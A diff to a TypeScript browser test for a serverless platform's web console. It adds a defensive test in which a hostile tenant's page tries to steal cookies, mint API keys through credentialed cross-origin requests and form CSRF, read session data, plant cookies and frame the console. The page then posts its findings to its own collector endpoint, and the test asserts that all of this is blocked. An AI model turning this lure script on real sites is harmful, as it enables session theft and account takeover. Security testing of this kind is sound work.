@@ -8,6 +8,7 @@ import { chromium, type Browser, type BrowserContext, type Locator, type Page } 
 import { freePort } from '../helpers/distributed-stack.js';
 import { call } from '../helpers/http.js';
 import { startNubo, type TestNubo } from '../helpers/nubo.js';
+import { eventually } from '../helpers/processes.js';
 import { tempDir } from '../helpers/temp-dir.js';
 
 /** Screenshots for a person to look at; the folder is not committed. */
@@ -27,6 +28,46 @@ async function shoot(page: Page, name: string): Promise<void> {
   }
   await page.setViewportSize(desktop);
 }
+
+/**
+ * A hostile tenant's page, served by its HTTP trigger: it tries to read, use, plant and frame the
+ * console's session from the browser of whoever opens it, then sends what it got to its owner.
+ */
+const lurePage = (consoleUrl: string) => `<!doctype html><html><body><p id="state">working</p><script>
+const consoleUrl = ${JSON.stringify(consoleUrl)};
+const results = {};
+const attempt = async (name, fn) => { try { results[name] = await fn(); } catch (e) { results[name] = 'blocked: ' + e.message; } };
+const inFrame = (setUp) => new Promise((resolve) => {
+  const frame = document.createElement('iframe');
+  frame.name = 'f' + Math.random().toString(36).slice(2);
+  document.body.append(frame);
+  frame.onload = () => { try { resolve('read: ' + frame.contentDocument.body.innerText.slice(0, 200)); } catch (e) { resolve('blocked: ' + e.message); } };
+  setUp(frame);
+  setTimeout(() => resolve('no answer'), 5000);
+});
+(async () => {
+  await attempt('cookies', () => document.cookie);
+  await attempt('scripted', () => fetch(consoleUrl + '/v1/keys', { method: 'POST', credentials: 'include',
+    headers: { 'content-type': 'application/json', 'x-nubo-console': '1' }, body: '{"name":"scripted"}' }).then((r) => 'answered ' + r.status));
+  await attempt('simple', () => fetch(consoleUrl + '/v1/keys', { method: 'POST', credentials: 'include', mode: 'no-cors',
+    headers: { 'content-type': 'text/plain' }, body: '{"name":"simple"}' }).then((r) => 'sent, ' + r.type));
+  await attempt('read', () => fetch(consoleUrl + '/v1/auth/me', { credentials: 'include' }).then((r) => r.text()));
+  await attempt('sessions', () => fetch(consoleUrl + '/v1/auth/sessions', { credentials: 'include' }).then((r) => r.text()));
+  await attempt('plant', () => { document.cookie = 'nubo_session=planted; path=/'; return document.cookie; });
+  await attempt('frame', () => inFrame((frame) => { frame.src = consoleUrl + '/'; }));
+  await attempt('form', () => inFrame((frame) => {
+    const form = document.createElement('form');
+    Object.assign(form, { method: 'POST', action: consoleUrl + '/v1/keys', enctype: 'text/plain', target: frame.name });
+    const input = document.createElement('input');
+    Object.assign(input, { name: '{"name":"form","x":"', value: '"}' });
+    form.append(input);
+    document.body.append(form);
+    form.submit();
+  }));
+  await fetch(location.origin + '/fn/mallory/collect/', { method: 'POST', body: JSON.stringify(results) });
+  document.getElementById('state').textContent = 'done';
+})();
+</script></body></html>`;
 
 /** Waits for what success shows; an error the page shows instead fails the test with its text. */
 async function successOrAlert(page: Page, success: Locator): Promise<void> {
@@ -240,12 +281,64 @@ describe('the web console in a real browser (Chromium)', () => {
     assert.equal((await nubo.call('GET', '/v1/keys', { key: alice })).body.length, keysBefore, 'no key was made');
   });
 
+  it('a signed-in user who opens a hostile tenant’s page loses nothing: no key, no session, no cookie', async () => {
+    const mallory = await nubo.signup('mallory');
+    await nubo.deploy(
+      mallory,
+      'lure',
+      {
+        'index.mjs': `export const handler = async () => ({ statusCode: 200, headers: { 'content-type': 'text/html' }, body: ${JSON.stringify(lurePage(nubo.url))} });`,
+      },
+      { public: true },
+    );
+    await nubo.deploy(
+      mallory,
+      'collect',
+      { 'index.mjs': "export const handler = async (event) => { console.log('collected ' + event.body); return 'thanks'; };" },
+      { public: true },
+    );
+    const [session] = await context.cookies(nubo.url);
+    assert.equal(session?.name, 'nubo_session', 'alice is signed in');
+    const keysBefore = (await nubo.call('GET', '/v1/keys', { key: alice })).body;
+    const sessionsBefore = (await nubo.call('GET', '/v1/auth/sessions', { key: alice })).body;
+
+    const lure = await context.newPage();
+    await lure.goto(`${nubo.triggerUrl}/fn/mallory/lure/`);
+    await lure.locator('#state', { hasText: 'done' }).waitFor({ timeout: 30_000 });
+    await lure.close();
+    const collected = await eventually('the page reported to its owner', async () => {
+      const logs = (await nubo.call('GET', '/v1/functions/collect/logs', { key: mallory })).body as { logs: string }[];
+      return logs[0]?.logs;
+    });
+    const results = JSON.parse(collected.slice(collected.indexOf('{')));
+    assert.ok(!collected.includes(session.value), 'the session token never reached the page');
+    assert.doesNotMatch(results.cookies, /nubo_session/, 'no session cookie is readable there');
+    assert.match(results.scripted, /^blocked/, 'a script gets no CORS grant to call the API');
+    assert.match(results.read, /^blocked/, 'nor to read it');
+    assert.match(results.sessions, /^blocked/);
+    assert.doesNotMatch(results.frame, /^read/, 'the console cannot be framed and read');
+    assert.doesNotMatch(results.form, /^read/);
+
+    assert.deepEqual((await nubo.call('GET', '/v1/keys', { key: alice })).body, keysBefore, 'no key was minted');
+    assert.deepEqual(
+      (await nubo.call('GET', '/v1/auth/sessions', { key: alice })).body.map((s: { id: string }) => s.id),
+      sessionsBefore.map((s: { id: string }) => s.id),
+      'no session was opened or ended',
+    );
+    assert.deepEqual(await context.cookies(nubo.url), [session], "the console's cookie is unchanged");
+    await page.goto(nubo.url);
+    await page.getByRole('heading', { name: 'Functions' }).waitFor();
+    const me = await page.evaluate<string>("fetch('/v1/auth/me').then((r) => r.json()).then((u) => u.username)");
+    assert.equal(me, 'alice', 'the console is still signed in as its own user');
+  });
+
   it('signs out, and a second user sees none of the first one’s functions', async () => {
     await page.goto(nubo.url);
+    const sessionsBefore = (await nubo.call('GET', '/v1/auth/sessions', { key: alice })).body;
     await page.getByRole('button', { name: 'Sign out' }).click();
     await page.getByRole('button', { name: 'Sign in' }).waitFor();
-    const keys = (await nubo.call('GET', '/v1/keys', { key: alice })).body as { name: string }[];
-    assert.equal(keys.filter((k) => k.name === 'console').length, 0, "signing out revoked the session's key");
+    const sessions = (await nubo.call('GET', '/v1/auth/sessions', { key: alice })).body;
+    assert.equal(sessions.length, sessionsBefore.length - 1, 'signing out ended the session');
     await signIn(page, nubo.url, 'bob');
     await page.getByText('No functions yet').waitFor();
     assert.equal(await page.getByRole('link', { name: 'Cluster' }).count(), 0);
